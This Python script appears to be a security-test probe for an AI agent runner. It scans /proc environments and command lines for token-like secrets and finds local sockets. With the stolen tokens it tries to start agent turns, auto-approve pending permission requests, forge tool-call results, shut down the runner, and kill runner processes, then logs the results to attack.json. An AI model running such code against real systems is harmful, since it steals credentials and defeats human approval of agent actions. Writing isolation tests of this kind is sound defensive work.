"""Started in the background by a command the user approved: tries to drive the runner."""

import functools
import glob
import json
import os
import re
import socket
import sys
import time
from collections.abc import Callable

OUT = os.path.join(os.getcwd(), "attack.json")
#: what a secret looks like: 16+ characters of a token alphabet (hex, base64url)
TOKEN_LIKE = re.compile(r"^[A-Za-z0-9_\-+/=.]{16,200}$")
#: the message of the turns it tries to start (joined here: it is in no conversation)
TURN_MARK = "-".join(["attacker", "own", "turn"])
#: the runner's answer without the control token
RUNNER_401 = "a valid bearer token is required"
#: what it sends each runner it finds, in this order (shutdown last)
ATTEMPTS = [
    ("GET", "/health"),
    ("GET", "/events?after=0"),
    ("POST", "/turns"),
    ("POST", "/permissions/{pending}"),
    ("POST", "/interrupt"),
    # a forged answer to a jupyter tool call would put words in the server's mouth
    ("POST", "/tool-calls/call-guess"),
    ("GET", "/files/tree"),
    ("POST", "/shutdown"),
]


def unix_sockets():
    found = set()
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8 and parts[-1].startswith("/"):
                found.add(parts[-1])
    except OSError:
        pass
    for pattern in (
        "/run/**/*.sock",
        "/tmp/**/*.sock",
        "/var/lib/**/*.sock",
        "/workspace/**/*.sock",
    ):
        found.update(glob.glob(pattern, recursive=True))
    return sorted(found)


def tcp_listeners():
    """(address, port) of every listening TCP socket (IPv4; ``0.0.0.0`` → loopback)."""
    found = set()
    try:
        lines = open("/proc/net/tcp").read().splitlines()[1:]
    except OSError:
        return []
    for line in lines:
        parts = line.split()
        if len(parts) < 4 or parts[3] != "0A":  # LISTEN
            continue
        address, port = parts[1].split(":")
        host = socket.inet_ntoa(bytes.fromhex(address)[::-1])
        found.add(("127.0.0.1" if host == "0.0.0.0" else host, int(port, 16)))
    return sorted(found)


def tokens():
    """Every token-like string the tools can read: environments and command lines."""
    found = {"": "none"}
    for value in os.environ.values():
        if TOKEN_LIKE.match(value):
            found.setdefault(value, "own env")
    sources = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    for path in sources:
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        for item in data.split(b"\0"):
            text = item.decode("utf-8", "replace")
            value = text.partition("=")[2] if path.endswith("environ") else text
            if TOKEN_LIKE.match(value):
                found.setdefault(value, path)
    return found


def http(connect, method, path, token, body=b""):
    sock = connect()
    sock.settimeout(1)
    head = f"{method} {path} HTTP/1.1\r\nHost: runner\r\nConnection: close\r\n"
    if token:
        head += f"Authorization: Bearer {token}\r\n"
    if method == "POST":
        head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    sock.sendall(head.encode() + b"\r\n" + body)
    data = b""
    try:
        while len(data) < 65536:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
            if b"/events" in path.encode() and b"\r\n\r\n" in data:
                break
    except OSError:
        pass
    sock.close()
    status_line = data.split(b"\r\n", 1)[0].decode("ascii", "replace")
    match = re.match(r"HTTP/1\.[01] (\d+)", status_line)
    return (int(match.group(1)) if match else status_line or "no answer"), data.partition(
        b"\r\n\r\n"
    )[2][:300].decode("utf-8", "replace")


def targets():
    out: list[tuple[str, Callable[[], socket.socket]]] = []
    for path in unix_sockets():
        out.append((f"unix:{path}", functools.partial(_unix, path)))
    for host, port in tcp_listeners():
        out.append((f"tcp:{host}:{port}", functools.partial(_tcp, host, port)))
    return out


def _unix(path):
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(1)
    sock.connect(path)
    return sock


def _tcp(host, port):
    return socket.create_connection((host, port), 1)


attempts: list[list[object]] = []
seen: set[tuple[object, ...]] = set()
found_tokens = tokens()
deadline = time.time() + float(sys.argv[1] if len(sys.argv) > 1 else 8)


def attempt(name, connect, where, token, method, path, body=b""):
    try:
        status, text = http(connect, method, path, token, body)
    except OSError as exc:
        status, text = type(exc).__name__, ""
    key = (name, where, method, path.split("?")[0], status)
    if key not in seen:
        seen.add(key)
        attempts.append([name, where, method, path.split("?")[0], status, text[:120]])
    return status, text


def report(done):
    with open(OUT + ".tmp", "w") as fh:
        json.dump({"attempts": attempts, "tokens": sorted(found_tokens), "done": done}, fh)
    os.replace(OUT + ".tmp", OUT)


def kill_runners():
    """Signal every runner process it can see (``--kill``): a runner of another uid
    must refuse (EPERM)."""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            cmdline = open(path, "rb").read()
        except OSError:
            continue
        if b"agcluster_jupyter.runner" in cmdline:
            pid = int(path.split("/")[2])
            try:
                os.kill(pid, 15)
                status = "killed"
            except OSError as exc:
                status = type(exc).__name__
            attempts.append([f"pid:{pid}", "kill", "SIGTERM", "/kill", status, ""])


passes = 0
if "--kill" in sys.argv:
    kill_runners()
while passes == 0 or time.time() < deadline:
    for name, connect in targets():
        status, text = attempt(name, connect, "none", "", "GET", "/health")
        runner = status == 401 and RUNNER_401 in text
        # a runner gets every token the tools could find; anything else two of them
        candidates = list(found_tokens.items()) if runner else list(found_tokens.items())[:2]
        for token, where in candidates:
            pending = ["perm-guess"]
            for method, path in ATTEMPTS:
                if path.endswith("{pending}"):
                    body = json.dumps({"decision": "allow"}).encode()
                    for request_id in pending:
                        attempt(
                            name, connect, where, token, "POST", f"/permissions/{request_id}", body
                        )
                    continue
                body = b""
                if path == "/turns":
                    body = json.dumps({"message": TURN_MARK}).encode()
                status, text = attempt(name, connect, where, token, method, path, body)
                if path == "/health" and status == 200:
                    try:
                        pending = json.loads(text).get("pending_permissions") or pending
                    except ValueError:
                        pass
    passes += 1
    report(False)
    time.sleep(0.3)
report(True)
